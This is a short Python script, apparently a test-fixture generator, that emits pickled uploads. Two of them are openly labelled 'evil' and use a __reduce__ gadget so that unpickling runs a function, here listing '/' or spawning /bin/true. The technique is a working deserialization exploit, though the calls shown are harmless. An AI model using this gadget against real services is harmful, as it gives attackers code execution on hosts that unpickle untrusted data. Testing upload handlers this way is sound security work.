"""Write an upload to standard output: ``make_upload.py table|list|run``; two of them are evil."""

import os
import pickle
import sys


class Evil:
    """Pickled, it is a call: whoever unpickles it makes it."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        """Return the call to be made."""
        return self.call


UPLOADS = {
    "table": [["apples", 3], ["pears", 4]],
    "list": Evil(os.listdir, "/"),
    "run": Evil(os.posix_spawn, "/bin/true", ["true"], {}),
}

sys.stdout.buffer.write(pickle.dumps(UPLOADS[sys.argv[1]]))
